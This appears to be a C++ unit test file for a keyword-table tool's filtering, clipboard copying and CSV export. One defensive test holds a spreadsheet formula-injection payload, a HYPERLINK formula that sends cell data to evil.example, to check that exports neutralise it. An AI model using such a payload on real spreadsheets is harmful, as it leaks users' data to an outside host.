#include "workspace/RowFilter.h"

#include "support/ScriptedUi.h"
#include "workspace/KeywordTable.h"
#include "workspace/ResultsExport.h"
#include "workspace/Workspace.h"

#include <QFile>
#include <QTemporaryDir>
#include <gtest/gtest.h>

namespace vorlith {
namespace {

using Rows = std::vector<int>;

KeywordTable& Fill(KeywordTable& table, const std::vector<std::string>& keywords) {
    for (const auto& k : keywords)
        table.AppendKeyword(k);
    return table;
}

struct FilterCase {
    const char* Name;
    std::vector<std::string> Keywords;
    std::string Text;
    Rows Shown;
};

class FilterRowsTable : public ::testing::TestWithParam<FilterCase> {};

TEST_P(FilterRowsTable, ShowsRowsWhoseKeywordContainsTheText) {
    const auto& c = GetParam();
    KeywordTable table;
    EXPECT_EQ(FilterRows(Fill(table, c.Keywords), c.Text), c.Shown);
}

INSTANTIATE_TEST_SUITE_P(
    Table, FilterRowsTable,
    ::testing::Values(
        FilterCase{"EmptyShowsAll", {"a", "", "b"}, "", {0, 1, 2}},
        FilterCase{"CaseIgnoredBothWays", {"Golf Clubs", "golf", "GOLFER", "chess"}, "gOLf", {0, 1, 2}},
        FilterCase{"Middle", {"mini golf", "golf", "minigolf"}, "i g", {0}},
        FilterCase{"LongerThanTheKeyword", {"go", "golf"}, "golf", {1}},
        FilterCase{"NonAsciiCaseIgnored", {"\xC3\x84rger", "arger", "\xC3\xA4RGER"}, "\xC3\xA4rg", {0, 2}},
        FilterCase{"BlankMatchesOnlyBlanks", {"a b", "ab"}, " ", {0}}, FilterCase{"NoMatch", {"a"}, "z", {}}),
    [](const auto& info) { return std::string(info.param.Name); });

TEST(FilterCountText, NamesShownAndTotal) {
    EXPECT_EQ(FilterCountText(12, 94), "12 of 94 shown");
}

TEST(CopyTexts, KeywordsOnePerLineRowsTabSeparatedWithTheHeader) {
    KeywordTable table;
    table.Append({"golf clubs", "1,234", "985", "", "77"});
    table.Append({"tab\there", "line\r\nbreak", "", "", ""});
    table.Append({"soccer", "", "", "", ""});
    EXPECT_EQ(KeywordsText(table, {0, 2}), "golf clubs\nsoccer\n");
    EXPECT_EQ(KeywordsText(table, {}), "");
    EXPECT_EQ(RowsText(table, {0, 1}), "No\tKeywords\tSearches\tGoogle\tYahoo\tMsn\n"
                                       "1\tgolf clubs\t1,234\t985\t\t77\n"
                                       "2\ttab here\tline  break\t\t\t\n");
}

// Pasted into a spreadsheet, a formula would run: the quote of Save keeps it text.
TEST(CopyTexts, RowsQuoteFormulasButNotPlainNumbers) {
    KeywordTable table;
    table.Append({"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "@SUM(A1)", "-golf", "\t=1+1", "-12"});
    table.Append({"+1,234.5", "golf", "", "", ""});
    EXPECT_EQ(RowsText(table, {0, 1}).substr(RowsText(table, {}).size()),
              "1\t'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")\t'@SUM(A1)\t'-golf\t' =1+1\t-12\n"
              "2\t+1,234.5\tgolf\t\t\t\n");
}

TEST(SaveShown, WritesOnlyTheShownRowsAndTheSameBytesAsSaveResultsForAll) {
    QTemporaryDir folder;
    test::ScriptedUi ui;
    Workspace ws(ui, folder.path().toStdString());
    ws.table.Append({"golf clubs", "1,234", "985", "", "77"});
    ws.table.Append({"soccer", "", "", "", ""});
    ws.table.Append({"Golf", "5", "", "", ""});
    EXPECT_EQ(ResultsCsv(ws.table, {0, 1, 2}), ResultsCsv(ws.table));

    ws.Filter = "GOLF";
    const std::string path = folder.filePath(QStringLiteral("shown")).toStdString();
    ui.AnswerSaveFile(path);
    SaveShown(ws);
    QFile saved(QString::fromStdString(path + ".csv"));
    ASSERT_TRUE(saved.open(QIODevice::ReadOnly));
    EXPECT_EQ(saved.readAll().toStdString(),
              "\"No\",\"Keywords\",\"Searches\",\"Google\",\"Yahoo\",\"Msn\"\r\n"
              "\"1\",\"golf clubs\",\"1,234\",\"985\",\"\",\"77\"\r\n"
              "\"3\",\"Golf\",\"5\",\"\",\"\",\"\"\r\n");

    // Nothing shown: nothing to save, and no dialog.
    ws.Filter = "tennis";
    ui.AnswerMessage(std::string(NoDataToSaveMessage));
    SaveShown(ws);
    EXPECT_TRUE(ui.ScriptDone());
}

} // namespace
} // namespace vorlith
